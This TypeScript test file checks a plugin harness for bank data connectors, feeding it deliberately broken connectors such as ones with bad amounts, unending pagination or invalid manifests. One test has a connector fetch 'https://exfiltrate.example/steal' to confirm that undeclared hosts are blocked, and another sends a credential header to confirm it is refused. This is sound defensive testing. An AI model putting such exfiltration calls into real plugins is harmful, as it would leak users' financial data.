import { describe, expect, it } from 'vitest';
import connectorPlugin, { createConnector } from '../../templates/data-connector/src/index';
import { ConnectorError, type DataConnector, type SourceTransaction } from '../connector';
import { definePlugin } from '../define';
import type { PluginDefinition } from '../manifest';
import { fixtureBank } from './fixture-bank';
import { assertHarnessPassed, runLifecycleHook, runPluginHarness } from './harness';

// The scaffold's data connector is the well-behaved plugin; each test breaks one rule of the contract.
const settings = { baseUrl: 'https://api.example-bank.test', apiKey: 'fixture-api-key', pageSize: 7 };
const good = connectorPlugin as PluginDefinition;

/** The good plugin with its connector changed by `change` (which gets the good connector). */
function breaking(change: (connector: DataConnector) => Partial<DataConnector>): PluginDefinition {
  return {
    ...good,
    extensions: {
      'data-connector': {
        connectorId: 'example-plugin',
        create: () => {
          const connector = createConnector(settings);
          return { ...connector, ...change(connector) };
        },
      },
    },
  };
}

/** A listTransactions that passes each page's transactions through `edit`. */
function editingTransactions(
  edit: (transactions: readonly SourceTransaction[], page: number) => unknown[],
): (connector: DataConnector) => Partial<DataConnector> {
  return (connector) => {
    let page = 0;
    return {
      listTransactions: async (...args) => {
        const answer = await connector.listTransactions(...args);
        return { ...answer, transactions: edit(answer.transactions, page++) as SourceTransaction[] };
      },
    };
  };
}

async function problemsOf(plugin: PluginDefinition, options: Parameters<typeof runPluginHarness>[1] = {}) {
  const report = await runPluginHarness(plugin, { settings, fetch: fixtureBank(), ...options });
  return report.problems;
}

describe('the harness on a data connector', () => {
  it('passes the well-behaved connector and records what it did', async () => {
    const report = await runPluginHarness(good, { settings, fetch: fixtureBank() });
    expect(report.problems).toEqual([]);
    expect(report.steps).toEqual(['manifest', 'settings', 'hooks.configure', 'data-connector']);
    expect(report.fetches.every((fetch) => fetch.url.startsWith('https://api.example-bank.test/'))).toBe(
      true,
    );
    expect(report.dataConnector?.balances).toHaveLength(3);
    expect(() => assertHarnessPassed(report)).not.toThrow();
  });

  it('refuses amounts that are not integer minor units', async () => {
    const problems = await problemsOf(
      breaking(
        editingTransactions((transactions) =>
          transactions.map((t, i) => (i === 0 ? { ...t, amount: { minor: '12.5', currency: 'EUR' } } : t)),
        ),
      ),
    );
    expect(problems).toContainEqual({
      step: 'data-connector.listTransactions',
      message:
        'account ana-current: transaction ana-current-2026-08-0: amount: Minor units "12.5" are not an integer. Use moneyFromDecimal to convert.',
    });
  });

  it('refuses negative transaction amounts (direction says which way)', async () => {
    const problems = await problemsOf(
      breaking(
        editingTransactions((transactions) =>
          transactions.map((t) => ({ ...t, amount: { ...t.amount, minor: `-${t.amount.minor}` } })),
        ),
      ),
    );
    expect(problems[0]?.message).toMatch(/amount is negative \(-\d+\); transaction amounts are positive/);
  });

  it('refuses a source id repeated within a sync', async () => {
    const problems = await problemsOf(
      breaking(editingTransactions((transactions) => transactions.map((t) => ({ ...t, sourceId: 'same' })))),
    );
    expect(problems).toContainEqual({
      step: 'data-connector.listTransactions',
      message:
        'account ana-current: transaction same: sourceId appears twice in one sync; it must be unique per account (deriveSourceId for sources without ids)',
    });
  });

  it('refuses ids that change between two syncs', async () => {
    let sync = 0;
    const problems = await problemsOf(
      breaking((connector) => ({
        listTransactions: async (grant, account, query, context) => {
          if (account === 'ana-current' && query.cursor === null) sync++;
          const answer = await connector.listTransactions(grant, account, query, context);
          const transactions = answer.transactions.map((t) => ({ ...t, sourceId: `${t.sourceId}-${sync}` }));
          return { ...answer, transactions };
        },
      })),
    );
    expect(problems.map((p) => p.step)).toEqual(['data-connector.resync']);
    expect(problems[0]?.message).toMatch(/^a second sync gave other ids \(33 gone, .*33 new/);
  });

  it('stops pagination that returns the same cursor again', async () => {
    const problems = await problemsOf(
      breaking(() => ({
        listTransactions: async () => ({ transactions: [], nextCursor: 'again' }),
      })),
    );
    expect(problems).toContainEqual({
      step: 'data-connector.listTransactions',
      message: 'account ana-current: nextCursor "again" came back a second time; pagination would never end',
    });
  });

  it('stops pagination that never ends after maxPages', async () => {
    let n = 0;
    const problems = await problemsOf(
      breaking(() => ({ listTransactions: async () => ({ transactions: [], nextCursor: String(++n) }) })),
      { dataConnector: { maxPages: 5 } },
    );
    expect(problems).toContainEqual({
      step: 'data-connector.listTransactions',
      message: 'account ana-current: still a next page after 5 pages; pagination must end (nextCursor null)',
    });
  });

  it('refuses a fetch to a host the manifest does not declare, before it reaches the source', async () => {
    let reached = 0;
    const bank = fixtureBank();
    const problems = await problemsOf(
      breaking((connector) => ({
        listAccounts: async (grant, context) => {
          await context.fetch('https://exfiltrate.example/steal').catch(() => undefined);
          return connector.listAccounts(grant, context);
        },
      })),
      {
        fetch: (request) => {
          if (request.url.includes('exfiltrate')) reached++;
          return bank(request);
        },
      },
    );
    expect(reached).toBe(0);
    expect(problems).toEqual([
      {
        step: 'data-connector.fetch',
        message:
          'GET https://exfiltrate.example/steal refused: The plugin may not call exfiltrate.example: it is not among the hosts its manifest declares.',
      },
    ]);
  });

  it('refuses credential headers from a third-party (isolated) plugin', async () => {
    const problems = await problemsOf(
      breaking((connector) => ({
        consentStatus: async (grant, context) => {
          await context.fetch('https://api.example-bank.test/ping', {
            headers: { authorization: 'Bearer x' },
          });
          return connector.consentStatus(grant, context);
        },
      })),
    );
    expect(problems.map((p) => p.message)).toEqual([
      'GET https://api.example-bank.test/ping refused: An isolated plugin may not send the authorization header; use another header.',
      'threw ConnectorError INVALID_REQUEST: An isolated plugin may not send the authorization header; use another header.',
    ]);
  });

  it('reports errors that are not ConnectorError as bugs', async () => {
    const problems = await problemsOf(
      breaking(() => ({
        listAccounts: async () => {
          throw new TypeError('cannot read properties of undefined');
        },
      })),
    );
    expect(problems).toEqual([
      {
        step: 'data-connector.listAccounts',
        message:
          'threw TypeError: cannot read properties of undefined — not a ConnectorError, which the platform treats as a bug',
      },
    ]);
  });

  it('refuses results that do not cross the platform boundary as JSON', async () => {
    const problems = await problemsOf(
      breaking((connector) => ({
        listAccounts: async (grant, context) => {
          const accounts = await connector.listAccounts(grant, context);
          return accounts.map((account) => ({ ...account, openedOn: new Date() as unknown as string }));
        },
      })),
    );
    expect(problems[0]).toEqual({
      step: 'data-connector.listAccounts',
      message:
        'accounts[0].openedOn is a Date, not a plain JSON object (dates are ISO strings, money is { minor, currency })',
    });
  });

  it('refuses transactions of another account than the one asked for', async () => {
    const problems = await problemsOf(
      breaking(
        editingTransactions((transactions) => transactions.map((t) => ({ ...t, sourceAccountId: 'x' }))),
      ),
    );
    expect(problems[0]?.message).toBe(
      'account ana-current: transaction ana-current-2026-08-0: sourceAccountId is "x", not the account asked for',
    );
  });

  it('refuses a connector whose id is not the extension connectorId', async () => {
    const problems = await problemsOf(breaking(() => ({ id: 'other' })));
    expect(problems).toEqual([
      {
        step: 'data-connector.create',
        message: `built a connector whose id is "other"; it must be the extension's connectorId "example-plugin"`,
      },
    ]);
  });
});

describe('the harness on manifests, settings and hooks', () => {
  it('stops at an invalid manifest with every problem, running nothing', async () => {
    const broken = { ...good, manifest: { ...good.manifest, version: '1.0', capabilities: [] } };
    const report = await runPluginHarness(broken as unknown as PluginDefinition, { settings });
    expect(report.steps).toEqual(['manifest']);
    expect(report.problems).toEqual([
      { step: 'manifest', message: '$.capabilities must NOT have fewer than 1 items' },
      {
        step: 'manifest',
        message: '$.version "1.0" is not a semantic version (MAJOR.MINOR.PATCH, e.g. 1.0.0)',
      },
      {
        step: 'manifest',
        message:
          '$.capabilities the plugin implements "data-connector" but does not declare it; add it to capabilities',
      },
    ]);
  });

  it('checks settings against the schema with the platform messages and calls nothing', async () => {
    const report = await runPluginHarness(good, {
      settings: { baseUrl: 'not a url', extra: 1 },
      fetch: fixtureBank(),
    });
    expect(report.problems).toEqual([
      { step: 'settings', message: 'settings.apiKey is required' },
      { step: 'settings', message: 'settings.extra is not a setting of this plugin' },
      { step: 'settings', message: 'settings.baseUrl must match format "uri"' },
    ]);
    expect(report.fetches).toEqual([]);
  });

  it('refuses a region the plugin does not serve', async () => {
    const euOnly = definePlugin({ ...good, manifest: { ...good.manifest, regions: ['EU'] } });
    expect(await problemsOf(euOnly, { region: 'US' })).toEqual([
      { step: 'settings', message: "the bank's region US is not among the plugin's regions (EU)" },
    ]);
  });

  it('takes hook outcomes as the platform does', async () => {
    const throwing = definePlugin({
      ...good,
      hooks: {
        configure: () => {
          throw new Error('backend down');
        },
      },
    });
    expect(await runLifecycleHook(throwing, 'configure', { settings })).toEqual({
      kind: 'refused',
      error: 'Error: backend down',
    });
    expect(await problemsOf(throwing)).toEqual([
      { step: 'hooks.configure', message: 'refused the change: Error: backend down' },
    ]);
    expect(await runLifecycleHook(good, 'configure', { settings })).toEqual({ kind: 'accepted' });
  });

  it('says what failed when asserting', async () => {
    const report = await runPluginHarness(good, { settings: {} });
    expect(() => assertHarnessPassed(report)).toThrow(
      'The plugin broke 2 rule(s) of the harness:\n  - settings: settings.baseUrl is required\n  - settings: settings.apiKey is required',
    );
  });

  it('gives connector errors the codes of the contract', () => {
    expect(new ConnectorError('RATE_LIMITED', 'slow down').retryable).toBe(true);
  });
});
